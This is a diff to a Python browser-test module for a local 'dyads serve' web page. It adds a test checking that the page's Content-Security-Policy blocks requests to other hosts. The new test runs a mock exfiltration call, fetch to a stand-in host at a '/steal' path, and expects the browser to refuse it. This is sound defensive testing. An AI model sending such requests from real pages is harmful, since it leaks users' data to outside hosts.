@@ -3,7 +3,8 @@ the real ``dyads serve`` command over a database coded from the sample articles,
 user would, and what it shows checked against the same file read here (``fixtures.stories``).
 
 Every test also checks that the page logged no error, that no request failed or was refused, and that
-it asked nothing of any host but its own server (the assets are bundled). With ``DYADS_SCREENSHOTS=DIR``
+it asked nothing of any host but its own server (the assets are bundled, and the page's
+Content-Security-Policy would refuse any other host). With ``DYADS_SCREENSHOTS=DIR``
 the dyad and network tests save ``dyad.png`` and ``network.png`` there (docs/images/serve-*.png).
 Without Chromium or Playwright the browser tests are skipped, except in CI (``CI`` set), where they fail.
 """
@@ -469,3 +470,16 @@ def test_the_page_marks_code_points_and_counts_weeks_from_monday(visit):
     assert found["filled"] == ["2019-12-02", "2019-12-09", "2019-12-16"]
     assert found["end"] == "2020-02-29"
     visit.check()
+
+
+def test_the_page_refuses_to_reach_another_host(visit):
+    """The page's Content-Security-Policy: should a script ever try to fetch from another host, the
+    browser refuses before sending anything."""
+    visit.open("#events")
+    visit.page.get_by_test_id("events-total").wait_for()
+    outcome = visit.page.evaluate("""async () => {
+        try { await fetch("http://192.0.2.1/steal?x=1"); return "sent"; } catch (e) { return "refused"; }
+    }""")
+    assert outcome == "refused"
+    # the browser said why, and no request left it (a sent one would be listed as to another host)
+    assert visit.problems and all("Content Security Policy" in p for p in visit.problems), visit.problems
